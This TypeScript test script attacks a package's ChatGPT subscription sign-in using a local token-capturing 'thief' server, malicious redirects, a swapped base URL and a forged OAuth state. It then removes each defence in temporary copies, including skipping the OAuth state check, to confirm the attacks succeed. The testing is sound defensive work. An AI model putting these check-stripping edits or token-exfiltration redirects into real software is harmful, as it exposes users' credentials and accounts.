// `npm run prove -- hostile`, its part about subscriptions: a hostile server, a changed configuration and a forged
// browser address try to obtain the tokens of a subscription or to sign in a foreign account. Then each check is
// removed in a copy of the source, and an attack must succeed.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { createVault } from "@signalbox/redaction";
import { startFakeChatGpt } from "@signalbox/testkit/openai";
import type * as ChatGpt from "../../../../src/configure/subscriptions/chatgpt.ts";
import type * as Credentials from "../../../../src/configure/subscriptions/credentials.ts";
import type * as Fetches from "../../../../src/configure/subscriptions/subscription-fetch.ts";

const CONFIGURE = join(import.meta.dirname, "..", "..", "..", "..", "src", "configure");
const SOURCE = join(CONFIGURE, "subscriptions");
const PROVIDER = "plan";

interface Sources {
  readonly chatgpt: typeof ChatGpt;
  readonly credentials: typeof Credentials;
  readonly fetches: typeof Fetches;
}

async function load(folder: string): Promise<Sources> {
  const open = (name: string) => import(pathToFileURL(join(folder, name)).href);
  return {
    chatgpt: await open("chatgpt.ts"),
    credentials: await open("credentials.ts"),
    fetches: await open("subscription-fetch.ts"),
  };
}

type World = Awaited<ReturnType<typeof createWorld>>;

async function createWorld({ chatgpt, credentials, fetches }: Sources) {
  const fake = await startFakeChatGpt({ script: () => ({ text: "Hello." }) });
  const stolen: string[] = [];
  const thief = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      stolen.push(JSON.stringify(request.headers) + body);
      response.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
  });
  await new Promise<void>((resolve) => thief.listen(0, "127.0.0.1", resolve));
  const thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  const dir = mkdtempSync(join(tmpdir(), "hostile-subscription-"));
  const vault = createVault();
  const store = credentials.openSubscriptions({ dir }, vault);
  const signIn = chatgpt.createChatGptSignIn({ issuer: fake.url });
  const { baseUrl } = fake;
  const started = await signIn.start(1455);
  const tokens = await started.finish(fake.approve(started.url));
  await store.set(PROVIDER, { ...tokens, baseUrl });
  return {
    fake,
    thiefUrl,
    vault,
    signIn,
    tokens,
    store,
    /** Sends a request of a model. */
    async send(url: string, base = baseUrl) {
      const send = fetches.createSubscriptionFetch({ provider: PROVIDER, baseUrl: base, store, signIn });
      const body = JSON.stringify({ model: "gpt-5.2", store: false, stream: true, input: "A secret." });
      const response = await send(url, { method: "POST", body }).catch(() => undefined);
      await response?.body?.cancel();
    },
    getDamage: () => (stolen.length > 0 ? "a foreign server received a request" : undefined),
    async close() {
      thief.closeAllConnections();
      thief.close();
      await fake.stop();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** Attacks by name. Each returns its damage, if any. */
const ATTACKS: Readonly<Record<string, (world: World) => Promise<string | undefined>>> = {
  "a redirect of a model request": async ({ fake, thiefUrl, send, getDamage }) => {
    fake.answerAt("/backend-api", () => Response.redirect(thiefUrl, 307));
    await send(`${fake.baseUrl}/responses`);
    return getDamage();
  },
  "a redirect of a refresh": async ({ fake, thiefUrl, send, getDamage }) => {
    fake.expire();
    fake.answerAt("/oauth/token", () => Response.redirect(thiefUrl, 307));
    await send(`${fake.baseUrl}/responses`);
    return getDamage();
  },
  "a redirect of a revocation": async ({ fake, thiefUrl, signIn, tokens, getDamage }) => {
    fake.answerAt("/oauth/revoke", () => Response.redirect(thiefUrl, 307));
    await signIn.revoke(tokens);
    return getDamage();
  },
  "a request to another server": async ({ thiefUrl, send, getDamage }) => {
    await send(`${thiefUrl}/responses`);
    return getDamage();
  },
  "a changed base URL": async ({ thiefUrl, send, getDamage }) => {
    await send(`${thiefUrl}/responses`, thiefUrl);
    return getDamage();
  },
  "a token in a log, a prompt or an export": async ({ vault, tokens }) => {
    const text = vault.redact(`${tokens.accessToken} ${tokens.refreshToken}`);
    const isShown = text.includes(tokens.accessToken) || text.includes(tokens.refreshToken);
    return isShown ? "a token is not redacted" : undefined;
  },
  "a foreign account in the browser": async ({ fake, signIn }) => {
    const started = await signIn.start(1455);
    const callback = fake.approve(started.url, "attacker");
    callback.searchParams.set("state", "of-the-attacker");
    const tokens = await started.finish(callback).catch(() => undefined);
    return tokens === undefined ? undefined : `signed in as ${tokens.accountId}`;
  },
};

async function attempt(sources: Sources, name: string): Promise<string | undefined> {
  const world = await createWorld(sources);
  try {
    return await ATTACKS[name]?.(world);
  } finally {
    await world.close();
  }
}

const CHECKS = [
  {
    attack: "a redirect of a model request",
    file: "subscription-fetch.ts",
    from: 'redirect: "manual"',
    to: 'redirect: "follow"',
  },
  {
    attack: "a redirect of a refresh",
    file: "chatgpt.ts",
    from: '{ ...init, redirect: "error" }',
    to: '{ ...init, redirect: "follow" }',
  },
  { attack: "a redirect of a revocation", file: "chatgpt.ts", from: 'redirect: "error",\n', to: "" },
  {
    attack: "a request to another server",
    file: "subscription-fetch.ts",
    from: "if (url.origin !== origin)",
    to: "if (false)",
  },
  {
    attack: "a changed base URL",
    file: "credentials.ts",
    from: "return data.baseUrl === baseUrl ? data : undefined",
    to: "return data",
  },
  {
    attack: "a token in a log, a prompt or an export",
    file: "credentials.ts",
    from: "if (added.length > 0) vault.add(added);",
    to: "",
  },
  {
    attack: "a foreign account in the browser",
    file: "chatgpt.ts",
    from: "oauth.validateAuthResponse(server, client, callback, state)",
    to: "oauth.validateAuthResponse(server, client, callback, oauth.skipStateCheck)",
  },
] as const;

let failed = false;
const sources = await load(SOURCE);
for (const name of Object.keys(ATTACKS)) {
  const damage = await attempt(sources, name);
  if (damage === undefined) continue;
  console.log(`  ${name}: ${damage}`);
  failed = true;
}
console.log(`subscriptions: ${Object.keys(ATTACKS).length} attacks tried${failed ? "" : ", 0 got through"}`);
for (const [index, { attack, file, from, to }] of CHECKS.entries()) {
  const copy = join(CONFIGURE, `.defenceless-${process.pid}-${index}`);
  cpSync(SOURCE, copy, { recursive: true });
  try {
    const text = readFileSync(join(copy, file), "utf8");
    if (!text.includes(from)) throw new Error(`${file} does not have: ${from}`);
    writeFileSync(join(copy, file), text.replace(from, to));
    const damage = await attempt(await load(copy), attack);
    console.log(`without the check against "${attack}": ${damage === undefined ? "NOT CAUGHT" : "caught"}`);
    if (damage === undefined) failed = true;
  } finally {
    rmSync(copy, { recursive: true, force: true });
  }
}
process.exit(failed ? 1 : 0);
